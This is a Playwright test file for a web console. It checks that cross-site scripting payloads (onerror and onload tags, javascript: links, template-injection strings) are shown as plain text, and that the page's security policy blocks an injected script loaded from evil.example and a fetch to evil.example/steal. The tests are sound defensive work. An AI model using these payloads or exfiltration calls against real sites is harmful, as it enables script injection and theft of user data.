import type { Page } from "@playwright/test";
import { recordKinds } from "../../fixtures/contract/record-kinds.ts";
import { openDialect } from "../../fixtures/dialect/open.ts";
import { mapNames } from "../../fixtures/values/json.ts";
import { expect, test } from "./console.fixture.ts";

/** Each would set `window.broken` if it were not treated as text. */
const attacks = [
  "<img src=x onerror=broken=1>",
  "</script><script>broken=1</script>",
  '"><svg onload=broken=1>',
  "javascript:broken=1",
  "{{constructor.constructor('broken=1')()}}",
  "<a href=javascript:broken=1>x</a>",
  "\u2028broken=1//",
  "__proto__",
] as const;

const text = attacks.join(" ");
const token = "hostile-token-1";

const records = attacks.map((id) => ({
  id,
  email: text,
  name: text,
  number: text,
  status: text,
  [text]: { [text]: [text] },
  dangerouslySetInnerHTML: { __html: text },
}));

/** A world in which every text is an attack. */
const world = {
  name: text,
  description: text,
  accounts: [{ id: text, name: text, tokens: [token], users: records, subscriptions: records, invoices: records }],
};

/** No script ran, and everything is text. */
async function expectUnbroken(page: Page): Promise<void> {
  expect(await page.evaluate(() => "broken" in window)).toBe(false);
  expect(await page.locator("img, iframe, object, embed, a[href^='javascript:' i]").count()).toBe(0);
}

/** With records of any form, so that the mock does not warn of these. */
const dialect = {
  ...(await openDialect("reference")),
  name: text,
  description: text,
  records: mapNames(recordKinds, () => ({})),
};

test.describe("a world full of scripts", () => {
  test.use({ world, dialect });

  test("is shown as text on every page of the console", async ({ mock, open }) => {
    const headers = { "content-type": "application/json", "x-note": text };
    const body = JSON.stringify({ email: text, name: text, [text]: text });
    await mock.call({ token, method: "POST", headers, body });
    await mock.call({ token, query: `page=${text}`, headers: { prefer: `scenario=${text}` } });
    await mock.call({ token: text, method: text, path: `/api/v1/${text}` });

    const { page, button, calls, detail } = await open();
    await expect(calls).toHaveCount(3);
    for (const call of await calls.all()) {
      await call.click();
      for (const closed of await page.getByText(/^\d+ headers$/).all()) await closed.click();
      await expectUnbroken(page);
    }
    await expect(detail).toContainText(attacks[0]);
    for (const fragment of ["#scenarios", "#accounts", "#clock", "#world"]) {
      await open(fragment);
      await expect(page.getByRole("main").getByRole("region").first()).toBeVisible();
      await expectUnbroken(page);
    }
    await expect(page.getByRole("cell", { name: text, exact: true }).first()).toBeVisible();
    await button(/^Edit /)
      .first()
      .click();
    await expect(page.getByLabel("The user as JSON")).toHaveValue(/onerror=broken/);
    await open(`#token=${encodeURIComponent(text)}`);
    await expectUnbroken(page);
  });
});

test.describe("an injected script", () => {
  test.use({ allowedComplaints: /Content Security Policy|^asked https:\/\/evil\.example\/x\.js$/ });

  test("is blocked by the page's policy, wherever it is", async ({ open }) => {
    const { page } = await open();
    const blocked = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => seen.push(effectiveDirective));
      const inline = Object.assign(document.createElement("script"), { textContent: "window.broken = 1" });
      const foreign = Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" });
      const button = document.createElement("div");
      button.innerHTML = '<button onclick="window.broken = 1">x</button>';
      document.body.append(inline, foreign, button);
      button.querySelector("button")?.click();
      await fetch("https://evil.example/steal").catch(() => undefined);
      while (seen.length < 4) await new Promise((resolve) => setTimeout(resolve, 10));
      return seen.toSorted();
    });
    expect(blocked).toStrictEqual(["connect-src", "script-src-attr", "script-src-elem", "script-src-elem"]);
    await expectUnbroken(page);
  });
});
